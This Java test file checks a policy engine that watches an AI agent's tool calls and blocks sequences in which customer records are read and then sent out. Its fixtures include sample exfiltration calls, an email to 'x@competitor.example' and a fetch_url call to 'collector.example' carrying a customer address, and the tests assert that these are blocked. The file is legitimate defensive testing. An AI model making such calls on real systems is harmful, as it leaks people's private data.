package dev.palisade.policy;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.palisade.inspection.Action;
import dev.palisade.inspection.Category;
import dev.palisade.inspection.Direction;
import dev.palisade.inspection.Evidence;
import dev.palisade.inspection.Exchange;
import dev.palisade.inspection.Finding;
import dev.palisade.inspection.Severity;
import dev.palisade.inspection.Verdict;
import dev.palisade.mcp.JsonRpcCodec;
import dev.palisade.mcp.JsonRpcMessage;
import java.time.Duration;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

/** The default policy's toxic-flow sequences: private data read, then about to leave through a sink. */
class SequenceRulesTest {
  private static final ObjectMapper JSON = new ObjectMapper();
  private static final String CUSTOMERS = "Ada Lovelace ada.lovelace@example.com +44 20 7946 0958 acct 4471-2290";
  private final MutableClock clock = new MutableClock(Instant.parse("2026-11-24T10:00:00Z"));
  private final ToolCatalog catalog = new ToolCatalog();
  private final InMemorySessionStore store = new InMemorySessionStore(100, Duration.ofMinutes(30));
  private final PolicyEngine engine = new PolicyEngine(BuiltinPolicies.defaultPolicy(), server -> Map.of(), catalog,
      new ArgumentValidator(), new RateLimiter(clock, 100),
      new SessionTracker(store, catalog, new ToolTaxonomy(), new DataFingerprints(42)));

  private static JsonRpcMessage message(String json) throws Exception {
    return JsonRpcCodec.classify((ObjectNode) JSON.readTree(json));
  }

  private Exchange exchange(Direction direction, String tool, String session) {
    return new Exchange("crm", direction, "tools/call", tool, null, session, "agent", null, clock.instant(), null);
  }

  private Verdict request(String session, String tool, String arguments, Finding... findings) throws Exception {
    return engine.decide(exchange(Direction.REQUEST, tool, session),
        message("{\"jsonrpc\":\"2.0\",\"id\":2,\"method\":\"tools/call\",\"params\":{\"name\":\"" + tool + "\",\"arguments\":"
            + arguments + "}}"), List.of(findings));
  }

  private Verdict answer(String session, String tool, String text, Finding... findings) throws Exception {
    return engine.decide(exchange(Direction.RESPONSE, tool, session),
        message("{\"jsonrpc\":\"2.0\",\"id\":2,\"result\":{\"content\":[{\"type\":\"text\",\"text\":\"" + text + "\"}]}}"),
        List.of(findings));
  }

  private static Finding email(String value) {
    return new Finding(Category.PII, "email", Severity.MEDIUM, "pii.email", "/x", 0, 1, null, new Evidence("a***", "h:" + value));
  }

  @Test
  void privateDataLeavingThroughASinkIsBlockedAtTheStepThatLeaves() throws Exception {
    request("s1", "query_customers", "{\"filter\":\"vip\"}");
    answer("s1", "query_customers", CUSTOMERS, email("ada.lovelace@example.com"));
    assertThat(request("s1", "write_file", "{\"path\":\"/tmp/c.txt\",\"content\":\"" + CUSTOMERS + "\"}").action())
        .as("writing a local file is not leaving").isEqualTo(Action.ALLOW);
    Verdict send = request("s1", "send_email", "{\"to\":\"x@competitor.example\",\"body\":\"list: ada.lovelace@example.com\"}",
        email("ada.lovelace@example.com"));
    assertThat(send.action()).isEqualTo(Action.BLOCK);
    assertThat(send.decisions()).anySatisfy(d -> {
      assertThat(d.finding().type()).isEqualTo("toxic_flow");
      assertThat(d.finding().evidence().excerpt()).contains("query_customers -> send_email");
    });
  }

  @Test
  void aSinkCallThatCarriesNoneOfTheDataPasses() throws Exception {
    request("s2", "query_customers", "{}");
    answer("s2", "query_customers", CUSTOMERS, email("ada.lovelace@example.com"));
    assertThat(request("s2", "send_email", "{\"to\":\"team@example.com\",\"body\":\"the report is ready\"}").action())
        .isEqualTo(Action.ALLOW);
  }

  @Test
  void wordsOfPrivateAnswersAreRecognisedWithoutADetectorFindingThem() throws Exception {
    request("s3", "query_customers", "{}");
    answer("s3", "query_customers", CUSTOMERS);
    assertThat(request("s3", "send_email", "{\"body\":\"account 4471-2290 needs a call\"}").action()).isEqualTo(Action.BLOCK);
  }

  @Test
  void sessionsAreSeparateAndChainsExpire() throws Exception {
    request("s4", "query_customers", "{}");
    answer("s4", "query_customers", CUSTOMERS, email("ada.lovelace@example.com"));
    // the e-mail address alone is only reported (PII), the chain needs the session that read it
    assertThat(request("other-session", "send_email", "{\"body\":\"ada.lovelace@example.com\"}", email("ada.lovelace@example.com"))
        .action()).isEqualTo(Action.ALERT);
    clock.advance(Duration.ofMinutes(31)); // past the sequence window (30 minutes) and the session idle time
    assertThat(request("s4", "send_email", "{\"body\":\"ada.lovelace@example.com\"}", email("ada.lovelace@example.com")).action())
        .isEqualTo(Action.ALERT);
  }

  @Test
  void sessionStateIsBounded() throws Exception {
    InMemorySessionStore small = new InMemorySessionStore(3, Duration.ofMinutes(30));
    for (int i = 0; i < 10; i++) {
      small.update("session-" + i, clock.instant(), state -> null);
    }
    assertThat(small.size()).isEqualTo(3);
    SessionState state = new SessionState();
    for (int i = 0; i < 500; i++) {
      state.add(new SessionState.Step(i, clock.instant(), Direction.REQUEST, "tools/call", "t", java.util.Set.of(),
          java.util.Set.of(), false, false));
    }
    int count = 0;
    for (SessionState.Step ignored : state.stepsNewestFirst()) {
      count++;
    }
    assertThat(count).isEqualTo(SessionState.MAX_STEPS);
  }

  @Test
  void privateDataSentToAToolThatFetchesUntrustedContentIsBlocked() throws Exception {
    request("s5", "query_customers", "{}");
    answer("s5", "query_customers", CUSTOMERS);
    assertThat(request("s5", "fetch_url", "{\"url\":\"https://collector.example/?d=ada.lovelace@example.com\"}").action())
        .isEqualTo(Action.BLOCK);
    assertThat(request("s5", "fetch_url", "{\"url\":\"https://docs.example/page\"}").action()).isEqualTo(Action.ALLOW);
  }
}
